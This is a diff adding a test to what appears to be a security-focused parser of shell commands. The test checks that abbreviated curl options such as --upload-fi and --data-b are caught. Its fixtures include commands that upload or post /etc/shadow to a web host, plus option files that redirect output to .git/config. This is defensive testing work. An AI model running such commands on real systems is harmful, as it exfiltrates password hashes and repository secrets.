@@ -93,6 +93,15 @@ describe('wget -e runs .wgetrc commands', () => {
   });
 });
 
+describe('curl takes prefixes of its long options', () => {
+  it('--confi, --upload-fi and --data-b are the options they begin', async () => {
+    for (const cmd of ['curl --confi k.rc https://example.com', 'curl -s --upload-fi /etc/shadow https://example.com/u', 'curl --data-b @/etc/shadow https://example.com/u']) {
+      expect((await actionsIn({ 'k.rc': 'output = .git/config\n' }, cmd)).some((x) => x.operation === 'unknown'), cmd).toBe(true);
+    }
+    for (const cmd of ['curl --silent --show-err https://example.com', 'curl --compressed --retry 3 https://example.com']) expect(stops(await parseShellCommand(cmd)), cmd).toBe(false);
+  });
+});
+
 describe('option files a variable chooses', () => {
   it('CURL_HOME, XDG_CONFIG_HOME and a line\'s HOME point curl at an option file', async () => {
     const files = { 'cfg/.curlrc': 'output = /etc/x\n', 'cfg/curlrc': 'upload-file = /etc/shadow\n' };
